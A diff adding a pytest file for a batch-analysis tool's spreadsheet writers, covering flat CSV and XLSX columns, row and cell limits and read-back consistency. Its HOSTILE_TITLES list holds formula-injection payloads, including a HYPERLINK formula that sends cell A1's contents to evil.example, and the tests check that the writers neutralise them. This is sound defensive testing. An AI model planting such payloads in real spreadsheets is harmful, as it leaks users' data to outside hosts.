@@ -1,0 +1,158 @@
+"""Spreadsheet outputs: flat columns, no JSON in cells, formula injection neutralised, XLSX limits,
+and every format read back the same by summarize."""
+
+from __future__ import annotations
+
+import csv
+from pathlib import Path
+
+import pytest
+from openpyxl import load_workbook
+from typer.testing import CliRunner
+
+from tests.batch.conftest import corpus_rows, read_jsonl, write_jsonl
+from veracity.batch import BatchJob, InputSpec, read_results, run_batch, summarize_results, writers
+from veracity.batch.row import FLAT_COLUMNS
+from veracity.cli import app
+from veracity.errors import InputError
+
+HOSTILE_TITLES = [
+    '=HYPERLINK("http://evil.example/"&A1,"click")',
+    "+1+1",
+    "-2+3",
+    "@SUM(1,1)",
+    "\tTabbed =1+1",
+    "\rCarriage",
+]
+
+
+@pytest.fixture(scope="module")
+def results(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """One real batch run (fast path) whose rows the writers are fed."""
+    folder = tmp_path_factory.mktemp("writers")
+    rows = corpus_rows(6)
+    rows.append({"id": "empty", "text": ""})
+    source = write_jsonl(folder / "in.jsonl", rows)
+    out = folder / "out.jsonl"
+    run_batch(BatchJob(input=InputSpec.for_path(source), out=out, chunk_size=3))
+    return out
+
+
+def test_csv_has_the_flat_columns_and_no_json(results: Path, tmp_path: Path) -> None:
+    out = tmp_path / "out.csv"
+    writers.write_results(out, read_jsonl(results))
+    raw = out.read_bytes()
+    assert raw.startswith(b"\xef\xbb\xbf")  # BOM: Excel reads UTF-8
+    with out.open(encoding="utf-8-sig", newline="") as stream:
+        reader = csv.DictReader(stream)
+        assert tuple(reader.fieldnames or ()) == FLAT_COLUMNS
+        rows = list(reader)
+    assert len(rows) == 7
+    for row in rows:
+        for value in row.values():
+            assert not value.lstrip().startswith(("{", "[")), value  # no JSON in a cell
+    analysed = [r for r in rows if not r["error"]]
+    assert all(r["label"] and r["band"].startswith(r["label"]) for r in analysed)
+    assert any("vague_attribution" in r["signals"] for r in analysed)
+    assert rows[-1]["error"] == "empty text"
+
+
+def hostile_rows(results: Path) -> list[dict]:
+    rows = read_jsonl(results)
+    for row, title in zip(rows, HOSTILE_TITLES, strict=False):
+        row["title"] = title
+    return rows
+
+
+def test_formula_cells_are_neutralised_and_read_back_unchanged(
+    results: Path, tmp_path: Path
+) -> None:
+    out = tmp_path / "out.csv"
+    writers.write_results(out, hostile_rows(results))
+    with out.open(encoding="utf-8-sig", newline="") as stream:
+        titles = [row["title"] for row in csv.DictReader(stream)][:6]
+    assert titles == ["'" + title for title in HOSTILE_TITLES]
+    assert [r["title"] for r in read_results(out)][:6] == HOSTILE_TITLES
+
+    xlsx = tmp_path / "out.xlsx"
+    writers.write_results(xlsx, hostile_rows(results))
+    sheet = load_workbook(xlsx, read_only=True).worksheets[0]
+    cells = [row[2] for row in sheet.iter_rows(min_row=2, max_row=7, values_only=True)]
+    assert cells == ["'" + title for title in HOSTILE_TITLES]
+    assert all(sheet.cell(row=r, column=3).data_type == "s" for r in range(2, 8))
+
+
+def test_every_format_reads_back_the_same_for_summarize(results: Path, tmp_path: Path) -> None:
+    rows = read_jsonl(results)
+    summaries = {}
+    for suffix in ("jsonl", "parquet", "csv", "xlsx"):
+        out = tmp_path / f"out.{suffix}"
+        writers.write_results(out, rows)
+        back = list(read_results(out))
+        assert [r["id"] for r in back] == [r["id"] for r in rows]
+        assert [r["score"] for r in back] == [r["score"] for r in rows]
+        summary = summarize_results(back)
+        summaries[suffix] = (
+            summary.rows,
+            summary.errors,
+            dict(summary.labels),
+            dict(summary.signal_kinds),
+            dict(summary.publishers),
+            summary.mean_score,
+        )
+    assert summaries["jsonl"][2] and summaries["jsonl"][3]  # labelled rows, signals counted
+    assert all(s == summaries["jsonl"] for s in summaries.values()), summaries
+
+
+def test_xlsx_continues_on_a_new_sheet_past_the_row_limit(
+    results: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(writers, "XLSX_MAX_ROWS", 4)  # header + 3 rows per sheet
+    out = tmp_path / "out.xlsx"
+    writers.write_results(out, read_jsonl(results))
+    workbook = load_workbook(out, read_only=True)
+    assert workbook.sheetnames == ["results", "results 2", "results 3"]
+    assert [len(list(s.iter_rows())) for s in workbook.worksheets] == [4, 4, 2]
+    assert [r["index"] for r in read_results(out)] == list(range(7))
+
+
+def test_xlsx_cuts_a_cell_over_the_limit_and_says_so(results: Path, tmp_path: Path) -> None:
+    rows = read_jsonl(results)
+    rows[0]["notes"] = ["x" * 40_000]
+    out = tmp_path / "out.xlsx"
+    writers.write_results(out, rows)
+    sheet = load_workbook(out, read_only=True).worksheets[0]
+    notes = next(sheet.iter_rows(min_row=2, max_row=2, values_only=True))[
+        FLAT_COLUMNS.index("notes")
+    ]
+    assert len(notes) == writers.XLSX_MAX_CELL_CHARS
+    assert notes.endswith("longer than a spreadsheet cell holds]")
+
+
+def test_batch_cli_writes_xlsx_and_refuses_other_suffixes(tmp_path: Path) -> None:
+    runner = CliRunner()
+    source = write_jsonl(tmp_path / "in.jsonl", corpus_rows(3))
+    out = tmp_path / "results.xlsx"
+    result = runner.invoke(app, ["batch", str(source), "--out", str(out)])
+    assert result.exit_code == 0, result.output
+    assert [r["id"] for r in read_results(out)] == ["art-0000", "art-0001", "art-0002"]
+    result = runner.invoke(app, ["batch", str(source), "--out", str(tmp_path / "r.ods")])
+    assert result.exit_code != 0
+    assert ".csv or .xlsx" in result.output
+
+
+def test_unwritable_xlsx_path_is_one_clear_error(tmp_path: Path) -> None:
+    blocker = tmp_path / "a-file"
+    blocker.write_text("not a folder", encoding="utf-8")
+    source = write_jsonl(tmp_path / "in.jsonl", corpus_rows(2))
+    result = CliRunner().invoke(app, ["batch", str(source), "--out", str(blocker / "results.xlsx")])
+    assert result.exit_code != 0
+    assert "error:" in result.output and "Traceback" not in result.output
+    assert isinstance(result.exception, SystemExit)
+
+
+def test_csv_that_is_not_a_results_file_is_refused(tmp_path: Path) -> None:
+    other = tmp_path / "other.csv"
+    other.write_text("name,value\na,1\n", encoding="utf-8")
+    with pytest.raises(InputError, match="no index column"):
+        list(read_results(other))
